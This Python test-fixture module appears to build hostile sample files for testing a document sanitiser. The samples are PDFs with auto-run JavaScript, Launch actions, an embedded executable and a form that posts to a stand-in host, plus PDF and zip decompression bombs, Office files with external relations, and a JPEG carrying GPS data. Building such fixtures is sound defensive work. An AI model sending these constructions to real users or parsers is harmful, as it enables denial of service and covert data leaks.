"""Files as someone who means harm, or a careless printer, would send them."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, String
from PIL import ExifTags, Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def blank(pages: int = 1):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def saved(pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def script(code="app.alert(1)"):
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def locked(user="secret") -> bytes:
    return saved(blank(), encryption=pikepdf.Encryption(owner="maitre", user=user))


def armed() -> bytes:
    """Everything at once, nested where a hurried reader would not look."""
    pdf = blank(3)
    root, page = pdf.Root, pdf.pages[0].obj
    root.OpenAction = pdf.make_indirect(script())
    root.AA = Dictionary(WC=script(), WS=Dictionary(S=Name.Launch, F=String("calc.exe")))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script())])))
    pdf.attachments["facture.exe"] = AttachedFileSpec(pdf, b"MZ charge", filename="facture.exe")
    chain = Dictionary(
        S=Name.GoTo,
        D=Array([page, Name.Fit]),
        Next=Array([script(), Dictionary(S=Name.GoToR, F=String("x"))]),
    )
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chain)
    away = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("javascript:x")),
    )
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    form = Dictionary(S=Name.SubmitForm, F=String("https://ailleurs.example/"))
    field = Dictionary(
        FT=Name.Tx, T=String("nom"), AA=Dictionary(K=script()), A=form, Kids=Array([Dictionary(A=script())])
    )
    page.Annots = Array([pdf.make_indirect(link), away, film, pdf.make_indirect(field)])
    root.AcroForm = Dictionary(Fields=Array([page.Annots[3]]), XFA=pdf.make_stream(b"<xdp/>"))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def disguised_action() -> bytes:
    """A link that starts a program, and says that it is something else."""
    pdf = blank()
    launch = Dictionary(Type=Name.StructElem, S=Name.Launch, F=String("calc.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch)
    pdf.pages[0].obj.Annots = Array([link])
    return saved(pdf)


def linked() -> bytes:
    """What a PDF may keep: a link on the web, a way within the document."""
    pdf = blank(2)
    web = Dictionary(S=Name.URI, URI=String("https://www.ars.sante.fr/"))
    inside = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    pdf.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=a) for a in (web, inside)]
    )
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return saved(pdf)


def swollen(size: int) -> bytes:
    """A PDF whose table of objects unfolds into `size` bytes."""
    data = zlib.compress(zlib.compress(b"1 0 " + b" " * size, 9), 9)
    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    stream = b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(
        data
    )
    body = head + stream + data + b"\nendstream endobj\n"
    rows = (
        b"\0\0\0\0\0\0"
        b"\1%s\0" % (9).to_bytes(4, "big") + b"\2\0\0\0\3\0" + b"\1%s\0" % len(head).to_bytes(4, "big")
    )
    table = b"4 0 obj<</Type/XRef/W[1 4 1]/Size 4/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return body + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(body)


def archive(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(zipfile.ZipInfo(name), content)  # the same bytes, whatever the hour
    return out.getvalue()


RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="https://ailleurs.example/x" TargetMode="External"/></Relationships>'
)


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)


def related(relation: bytes) -> bytes:
    """A Word document with one relation, written as somebody who knows what is looked for would write it."""
    return docx(**{"word/_rels/settings.xml.rels": RELATIONS % relation, "word/a.bin": b"x"})


def opendocument(body: bytes) -> bytes:
    """A text of LibreOffice around this body."""
    names = (b"xlink=http://www.w3.org/1999/xlink", b"draw=d", b"office=o", b"script=s", b"text=t")
    spaces = b" ".join(b'xmlns:%s="%s"' % tuple(name.split(b"=", 1)) for name in names)
    content = b"<office:document-content %s>%s</office:document-content>" % (spaces, body)
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


def docx(**more: bytes) -> bytes:
    return archive(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
        | {k.replace("__", "/"): v for k, v in more.items()}
    )


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
        made.writestr("word/document.xml", b"<w/>")
        with made.open("word/media/image1.png", "w") as entry:
            for _ in range(210):
                entry.write(bytes(1024 * 1024))
    return out.getvalue()


def photo(turned: int = 6) -> bytes:
    """A photograph that says where it was taken, held sideways."""
    image, out = Image.new("RGB", (60, 40), "teal"), io.BytesIO()
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = turned
    exif[ExifTags.Base.Make] = "Appareil de test"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (45.0, 45.0, 0.0)
    image.save(out, "JPEG", exif=exif, comment=b"prise au domicile")
    return out.getvalue()
